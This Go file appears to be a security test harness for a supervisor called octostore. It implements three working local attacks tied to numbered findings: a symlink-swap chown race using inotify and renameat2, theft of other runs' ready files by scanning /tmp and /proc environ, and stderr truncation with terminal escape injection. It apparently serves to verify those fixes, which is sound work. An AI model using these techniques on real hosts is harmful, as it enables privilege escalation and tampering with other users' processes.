package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The attacks on what runs share on a host (root's ready directories, other
// runs' ready files, the supervisor's log), one mode each; all but chown-race
// run as a worker. Each writes its attempts to ATTACKER_REPORT, one line
// each ("ok WHAT" or "fail WHAT: ERR"), whole (through PATH.tmp) when it is
// done.

// sideAttack runs mode if it is one of these, and says whether it was.
func sideAttack(mode string) (int, bool) {
	var err error
	switch mode {
	case "chown-race":
		err = chownRace(os.Getenv("ATTACKER_WATCH"), os.Getenv("ATTACKER_TARGET"), os.Getenv("ATTACKER_REPORT"))
	case "ready-thief":
		err = readyThief(os.Getenv("ATTACKER_REPORT"))
	case "stderr":
		err = stderrAttack(os.Getenv("ATTACKER_REPORT"))
	default:
		return 0, false
	}
	if err != nil {
		return fail(err), true
	}
	return 0, true
}

// attempts are the lines of a report.
type attempts []string

func (a *attempts) rec(what string, err error) {
	if err != nil {
		*a = append(*a, fmt.Sprintf("fail %s: %v", what, err))
	} else {
		*a = append(*a, "ok "+what)
	}
}

func (a attempts) write(path string) error {
	if err := os.WriteFile(path+".tmp", []byte(strings.Join(a, "\n")+"\n"), 0o644); err != nil {
		return err
	}
	return os.Rename(path+".tmp", path)
}

// chownRace is another local user's attack on a root supervisor whose
// $TMPDIR it may write to (finding 3): woken by inotify when a ready
// directory (octostore-ready-*) appears in watch, it swaps it for a symlink
// to target with renameat2(RENAME_EXCHANGE), before root chowns it by path.
// It writes "armed" to report once it watches, then a line per swap, and
// runs until killed.
func chownRace(watch, target, report string) error {
	if watch == "" || target == "" || report == "" {
		return errors.New("ATTACKER_WATCH, ATTACKER_TARGET and ATTACKER_REPORT are required")
	}
	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
	if err != nil {
		return fmt.Errorf("inotify_init1: %w", err)
	}
	if _, err := unix.InotifyAddWatch(fd, watch, unix.IN_CREATE); err != nil {
		return fmt.Errorf("watch %s: %w", watch, err)
	}
	log, err := os.OpenFile(report, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	fmt.Fprintln(log, "armed")
	buf := make([]byte, 64<<10)
	for {
		n, err := unix.Read(fd, buf)
		if err != nil {
			return fmt.Errorf("read inotify: %w", err)
		}
		for off := 0; off+unix.SizeofInotifyEvent <= n; {
			mask := binary.NativeEndian.Uint32(buf[off+4:])
			size := int(binary.NativeEndian.Uint32(buf[off+12:]))
			name := strings.TrimRight(string(buf[off+unix.SizeofInotifyEvent:off+unix.SizeofInotifyEvent+size]), "\x00")
			off += unix.SizeofInotifyEvent + size
			if mask&unix.IN_ISDIR == 0 || !strings.HasPrefix(name, "octostore-ready-") {
				continue
			}
			dir, link := filepath.Join(watch, name), filepath.Join(watch, ".swap-"+name)
			err := os.Symlink(target, link)
			if err == nil {
				err = unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
			}
			if err != nil {
				fmt.Fprintf(log, "fail swap %s: %v\n", dir, err)
			} else {
				fmt.Fprintf(log, "ok swap %s\n", dir)
			}
		}
	}
}

// readyThief is a worker that looks, for three seconds, for the ready
// directories of other runs of its user (finding 7): directories of its
// user where it can list (the parent of its own, /tmp), and ready files
// named in every environment it can read. It creates the ready file in each
// it finds: that run then reports authority
// although its own worker never signalled ready. It then waits for TERM.
func readyThief(report string) error {
	own := os.Getenv("OCTOSTORE_SUPERVISOR_READY_FILE")
	if report == "" || own == "" {
		return errors.New("ATTACKER_REPORT and OCTOSTORE_SUPERVISOR_READY_FILE are required")
	}
	var a attempts
	tried, found := map[string]bool{}, 0
	take := func(ready string) {
		if ready != own && !tried[ready] {
			tried[ready] = true
			found++
			f, err := os.OpenFile(ready, os.O_WRONLY|os.O_CREATE, 0o600)
			if err == nil {
				f.Close()
			}
			a.rec("create "+ready, err)
		}
	}
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		for _, d := range []string{filepath.Dir(filepath.Dir(own)), "/tmp"} {
			ents, err := os.ReadDir(d)
			if err != nil && !tried["list "+d] {
				tried["list "+d] = true
				a.rec("list "+d, err)
			}
			for _, e := range ents {
				// A ready directory is its worker's user's: ours.
				if fi, err := e.Info(); err == nil && fi.IsDir() && fi.Sys().(*syscall.Stat_t).Uid == uint32(os.Getuid()) {
					take(filepath.Join(d, e.Name(), filepath.Base(own)))
				}
			}
		}
		for _, ready := range readyFilesInEnvirons() {
			take(ready)
		}
	}
	a.rec(fmt.Sprintf("looked (%d ready files found)", found), nil)
	if err := a.write(report); err != nil {
		return err
	}
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, syscall.SIGTERM)
	<-sigs
	return nil
}

// readyFilesInEnvirons are the ready files named in every environment this
// process may read.
func readyFilesInEnvirons() []string {
	var found []string
	pids, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range pids {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, kv := range strings.Split(string(b), "\x00") {
			if v, ok := strings.CutPrefix(kv, "OCTOSTORE_SUPERVISOR_READY_FILE="); ok {
				found = append(found, v)
			}
		}
	}
	return found
}

// stderrAttack is a worker that goes for the supervisor's stderr through its
// own (finding 8): it truncates it (ftruncate needs only the descriptor),
// asks whether it is a terminal, reopens it for reading through
// /proc/self/fd/2 and reads, then writes a line and a terminal escape.
func stderrAttack(report string) error {
	if report == "" {
		return errors.New("ATTACKER_REPORT is required")
	}
	var a attempts
	target, err := os.Readlink("/proc/self/fd/2")
	a.rec("readlink fd 2 ("+target+")", err)
	a.rec("ftruncate fd 2", unix.Ftruncate(2, 0))
	_, err = unix.IoctlGetTermios(2, unix.TCGETS)
	a.rec("TCGETS fd 2", err)
	if f, err := os.OpenFile("/proc/self/fd/2", os.O_RDONLY|unix.O_NONBLOCK, 0); err != nil {
		a.rec("open-read /proc/self/fd/2", err)
	} else {
		n, err := f.Read(make([]byte, 4096))
		if errors.Is(err, io.EOF) || errors.Is(err, syscall.EAGAIN) {
			err = nil
		}
		a.rec(fmt.Sprintf("read /proc/self/fd/2 (%d bytes)", n), err)
		f.Close()
	}
	_, err = fmt.Fprint(os.Stderr, "worker line on stderr\n\x1b]0;worker-title\x07\x1b[31mworker-red\x1b[0m\n")
	a.rec("write fd 2", err)
	return a.write(report)
}
